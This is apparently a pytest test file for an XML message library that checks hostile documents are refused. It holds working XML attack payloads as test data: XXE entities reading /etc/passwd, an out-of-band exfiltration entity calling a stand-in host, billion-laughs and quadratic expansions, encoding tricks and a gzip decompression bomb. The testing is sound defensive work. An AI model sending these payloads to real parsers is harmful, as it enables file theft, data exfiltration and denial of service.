"""Hostile documents, each refused by the rule that is meant for it, or made harmless."""

import base64
import gzip
import io
import socket
import zlib
from contextlib import suppress
from pathlib import Path
from random import Random

import pytest

from cim.compressed import MAX_INFLATED, MAX_RATIO
from cim.elements import MessageRefused
from cim.messages import read
from cim.profiles import end_device_config
from cim.tests.examples import der_event
from cim.validation import validate
from cim.xml import (
    MAX_BYTES,
    MAX_DEPTH,
    MAX_ELEMENTS,
    XmlRefused,
    iterate,
    parse,
    pretty,
    serialize,
)

BILLION_LAUGHS = (
    '<!DOCTYPE a [<!ENTITY x "ha">'
    + "".join(
        f'<!ENTITY x{level} "{("&x" + (str(level - 1) if level else "") + ";") * 10}">'
        for level in range(9)
    )
    + "]><a>&x8;</a>"
)
QUADRATIC = f'<!DOCTYPE a [<!ENTITY x "{"y" * 50_000}">]><a>{"&x;" * 50_000}</a>'
UTF7_DOCTYPE = b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE a+AD4-<a>+ADw-b/+AD4-</a>'

REFUSED: dict[str, tuple[bytes, set[str]]] = {
    "external entity, file": (
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        {"doctype"},
    ),
    "external entity, http": (
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "http://192.0.2.1/">]><a>&x;</a>',
        {"doctype"},
    ),
    "parameter entity": (
        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]><a/>',
        {"doctype"},
    ),
    "external document type": (b'<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd"><a/>', {"doctype"}),
    "external document type that would be missed if it were opened": (
        b'<!DOCTYPE a SYSTEM "file:///nowhere/a.dtd"><a/>',
        {"doctype"},
    ),
    "public document type": (b'<!DOCTYPE a PUBLIC "-//X//Y" "a.dtd"><a/>', {"doctype"}),
    "bare document type": (b"<!DOCTYPE a><a/>", {"doctype"}),
    "default attribute": (b'<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>', {"doctype"}),
    "billion laughs": (BILLION_LAUGHS.encode(), {"doctype", "syntax"}),
    "billion laughs in an attribute": (
        BILLION_LAUGHS.replace("<a>&x8;</a>", '<a b="&x8;"/>').encode(),
        {"doctype", "syntax"},
    ),
    "quadratic blowup": (QUADRATIC.encode(), {"doctype", "syntax"}),
    "document type in UTF-16": ("<!DOCTYPE a><a/>".encode("utf-16"), {"doctype"}),
    "document type in big-endian UTF-16": (
        b"\xfe\xff" + "<!DOCTYPE a><a/>".encode("utf-16-be"),
        {"doctype"},
    ),
    "UTF-16 without a byte order mark": ("<a/>".encode("utf-16-le"), {"syntax", "encoding"}),
    "document type in UTF-7": (UTF7_DOCTYPE, {"encoding"}),
    "UTF-7": (b'<?xml version="1.0" encoding="utf-7"?><a>+ADw-b/+AD4-</a>', {"encoding"}),
    "UTF-32": ("<a/>".encode("utf-32"), {"encoding"}),
    "UTF-16 that says UTF-7": (
        '<?xml version="1.0" encoding="UTF-7"?><a/>'.encode("utf-16"),
        {"encoding"},
    ),
    "UTF-8 that says UTF-16": (b'<?xml version="1.0" encoding="UTF-16"?><a/>', {"encoding"}),
    "Latin-1": (b'<?xml version="1.0" encoding="iso-8859-1"?><a>\xe9</a>', {"encoding"}),
    "EBCDIC": (b'<?xml version="1.0" encoding="cp037"?><a/>', {"encoding"}),
    "overlong UTF-8": (b"<a>\xc0\xbc</a>", {"encoding"}),
    "gzip": (gzip.compress(b"<a/>"), {"encoding"}),
    "too large": (b"<a>" + b"x" * MAX_BYTES + b"</a>", {"size"}),
    "too deep": (b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1), {"depth"}),
    "as deep as a huge tree may be": (b"<a>" * 2_048 + b"</a>" * 2_048, {"depth"}),
    "one byte too large": (b"<a>" + b"x" * (MAX_BYTES - 6) + b"</a>", {"size"}),
    "2,000,000 elements": (b"<a>" + b"<b/>" * 2_000_000 + b"</a>", {"size"}),
    "entity in an attribute": (b'<!DOCTYPE a [<!ENTITY x "y">]><a b="&x;"/>', {"doctype"}),
    "external entity by parameter": (
        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "file:///etc/passwd"> '
        b"<!ENTITY % y \"<!ENTITY z SYSTEM 'http://192.0.2.1/?%x;'>\"> %y;]><a>&z;</a>",
        {"doctype", "syntax"},
    ),
    "far too deep": (b"<a>" * 100_000 + b"</a>" * 100_000, {"depth"}),
    "too many elements": (b"<a>" + b"<b/>" * MAX_ELEMENTS + b"</a>", {"elements"}),
    "far too many elements": (b"<a>" + b"<b/>" * 1_000_000 + b"</a>", {"elements"}),
    "end tags hidden in a comment": (
        b"<a>" + b"<b/>" * 250_000 + b"<!--" + b"</" * 250_000 + b"--></a>",
        {"elements"},
    ),
    "two roots": (b"<a/><b/>", {"syntax"}),
    "trailing text": (b"<a/>tail", {"syntax"}),
    "trailing NUL": (b"<a/>\x00", {"syntax"}),
    "cut off": (b"<a><b></a", {"syntax"}),
    "undefined entity": (b"<a>&nbsp;</a>", {"syntax"}),
    "undeclared prefix": (b"<x:a/>", {"syntax"}),
    "attribute twice": (b'<a b="1" b="2"/>', {"syntax"}),
    "control character": (b"<a>\x01</a>", {"syntax"}),
    "control character by reference": (b"<a>&#1;</a>", {"syntax"}),
    "empty": (b"", {"syntax"}),
    "white space": (b"  \n", {"syntax"}),
    "HTML": (b"<!doctype html><html><br></html>", {"syntax", "doctype"}),
    "JSON": (b'{"a": 1}', {"syntax"}),
    "a path instead of a document": (b"/etc/passwd", {"syntax"}),
}


@pytest.mark.parametrize(("data", "rules"), REFUSED.values(), ids=REFUSED)
def test_is_refused(data: bytes, rules: set[str]) -> None:
    with pytest.raises(XmlRefused) as refused:
        parse(data)
    assert refused.value.rule in rules


@pytest.mark.parametrize("data", [data for data, _ in REFUSED.values()], ids=REFUSED)
def test_is_refused_in_a_stream(data: bytes) -> None:
    limits = {"max_bytes": MAX_BYTES, "max_elements": MAX_ELEMENTS}
    with pytest.raises(XmlRefused):
        list(iterate(io.BytesIO(data), "b", **limits))


FETCHING = {
    "external entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "{url}">]><a>&x;</a>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "{url}"> %x;]><a/>',
    "external document type": '<!DOCTYPE a SYSTEM "{url}"><a/>',
    "public document type": '<!DOCTYPE a PUBLIC "-//X//Y" "{url}"><a/>',
    "inclusion": '<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{url}"/></a>',
    "style sheet": '<?xml-stylesheet href="{url}"?><a/>',
    "schema location": (
        '<a xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="urn:a {url}"/>'
    ),
}


@pytest.mark.parametrize("text", FETCHING.values(), ids=FETCHING)
def test_nobody_is_called(text: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        data = text.format(url=f"http://127.0.0.1:{listener.getsockname()[1]}/a").encode()
        with suppress(XmlRefused):
            validate(serialize(parse(data)))
        with suppress(XmlRefused):
            list(iterate(io.BytesIO(data), "a", max_bytes=1_000, max_elements=10))
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()


def test_a_file_is_not_opened_by_its_path(tmp_path: Path) -> None:
    packed = tmp_path / "message.xml.gz"
    packed.write_bytes(gzip.compress(b"<a/>"))
    for data in (str(packed).encode(), packed.as_uri().encode(), packed.read_bytes()):
        with pytest.raises(XmlRefused):
            parse(data)


def test_too_many_elements_are_counted_before_a_tree_is_made(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("cim.xml._tree", lambda data: pytest.fail("a tree was made"))
    data = b"<a>" + b"<b/>" * 2_000_000 + b"</a>"
    with pytest.raises(XmlRefused) as refused:
        parse(data, max_bytes=2 * len(data))
    assert refused.value.rule == "elements"


def test_a_huge_text_is_refused_even_where_more_bytes_are_read() -> None:
    with pytest.raises(XmlRefused) as refused:
        parse(b"<a>" + b"x" * 11_000_000 + b"</a>", max_bytes=MAX_INFLATED)
    assert refused.value.rule == "syntax"


def test_the_largest_document_is_read() -> None:
    data = b"<a>" + b"x" * (MAX_BYTES - 7) + b"</a>"
    assert len(data) == MAX_BYTES
    assert parse(data).tag == "a"


def test_processing_instructions_are_left_out() -> None:
    assert serialize(parse(b"<?a b?><a><?c d?><b/></a><?e f?>")).endswith(b"<a><b/></a>")


@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16"])
def test_honest_encodings_are_read(codec: str) -> None:
    assert parse("<a>Zürich</a>".encode(codec)).text == "Zürich"


def test_limits_are_reached_but_not_crossed() -> None:
    assert len(parse(b"<a>" + b"<b/>" * (MAX_ELEMENTS - 1) + b"</a>")) == MAX_ELEMENTS - 1
    parse(b"<a>" * MAX_DEPTH + b"</a>" * MAX_DEPTH)


def test_comment_does_not_split_text() -> None:
    assert parse(b"<a>good<!-- -->evil</a>").text == "goodevil"


def test_processing_instruction_does_not_split_text() -> None:
    assert parse(b"<a>good<?x y?>evil</a>").text == "goodevil"


def test_comment_before_the_root_is_harmless() -> None:
    assert parse(b"<!-- <!DOCTYPE a> --><a/>").tag == "a"


def test_inclusion_is_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("secret")
    data = f'<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{secret}"/></a>'
    assert b"secret</" not in serialize(parse(data.encode()))


def test_schema_location_in_a_message_is_not_followed() -> None:
    data = der_event().replace(
        b"<CreatedEndDeviceConfig ",
        b'<CreatedEndDeviceConfig xmlns:x="http://www.w3.org/2001/XMLSchema-instance" '
        b'x:schemaLocation="urn:x http://192.0.2.1/x.xsd" ',
    )
    assert validate(data) == []


def test_console_escapes_nothing_away() -> None:
    assert "&lt;script&gt;" in pretty(b"<a>&lt;script&gt;</a>")


WRONG_NUMBERS = ["NaN", "INF", "-INF", "1e4", "-1", "", " ", "0x10", "1,5", "10000000001", "٣"]


@pytest.mark.parametrize("number", WRONG_NUMBERS)
def test_nameplate_takes_plain_numbers_only(number: str) -> None:
    data = der_event().replace(b">5500<", f">{number}<".encode())
    assert validate(data) != []


@pytest.mark.parametrize("number", ["NaN", "INF", "1e4", "", "0x10", "1,5", "٣", "9" * 100])
def test_reader_takes_plain_numbers_only_even_without_schema(number: str) -> None:
    payload = read(der_event().replace(b">5500<", f">{number}<".encode())).payload
    assert payload is not None
    with pytest.raises(MessageRefused):
        end_device_config.from_element(payload)


def test_unit_cannot_be_swapped() -> None:
    data = der_event().replace(b'unit="VA"', b'unit="kVA"')
    payload = read(data).payload
    assert validate(data) != []
    assert payload is not None
    with pytest.raises(MessageRefused, match="kVA"):
        end_device_config.from_element(payload)


def _compressed(packed: bytes) -> bytes:
    text = base64.b64encode(packed).decode()
    return (
        '<EventMessage xmlns="http://iec.ch/TC57/2011/schema/message"><Header><Verb>created</Verb>'
        f"<Noun>X</Noun></Header><Payload><Compressed>{text}</Compressed></Payload></EventMessage>"
    ).encode()


def test_compressed_payload_is_read() -> None:
    payload = read(_compressed(gzip.compress(b"<X><y>1</y></X>"))).payload
    assert payload is not None
    assert payload.findtext("y") == "1"


BAD_COMPRESSED = {
    "a bomb": gzip.compress(b"<a>" + b" " * 30_000_000 + b"</a>"),
    "a ratio": gzip.compress(b"<a>" + b" " * 1_000_000 + b"</a>"),
    "cut off": gzip.compress(b"<a/>")[:-4],
    "data after the end": gzip.compress(b"<a/>") + b"more",
    "not gzip": zlib.compress(b"<a/>"),
    "a document type inside": gzip.compress(b"<!DOCTYPE a><a/>"),
    "too many elements inside": gzip.compress(b"<a>" + b"<b/>" * 250_000 + b"</a>", 1),
    "too deep inside": gzip.compress(b"<a>" * 100 + b"</a>" * 100),
    "an entity inside": gzip.compress(
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    ),
    "packed twice": gzip.compress(gzip.compress(b"<a/>")),
    "no XML": gzip.compress(b"hello"),
}


@pytest.mark.parametrize("packed", BAD_COMPRESSED.values(), ids=BAD_COMPRESSED)
def test_compressed_payload_is_refused(packed: bytes) -> None:
    with pytest.raises((MessageRefused, XmlRefused)):
        read(_compressed(packed))


def test_compressed_payload_must_be_base64() -> None:
    with pytest.raises(MessageRefused, match="base64"):
        read(_compressed(b"").replace(b"<Compressed>", b"<Compressed>%%%"))


def test_compressed_payload_of_a_modest_ratio_is_refused_beyond_20_mb() -> None:
    """Incompressible pieces between spaces: the ratio stays allowed, the size alone is too much."""
    some = Random(1)
    pieces = [some.randbytes(500).hex().encode() + b" " * 19_000 for _ in range(1_100)]
    packed = gzip.compress(b"<a>" + b"".join(pieces) + b"</a>")
    assert MAX_INFLATED < 20_000 * 1_100 < MAX_RATIO * len(packed)
    with pytest.raises(MessageRefused, match=str(MAX_INFLATED)):
        read(_compressed(packed))
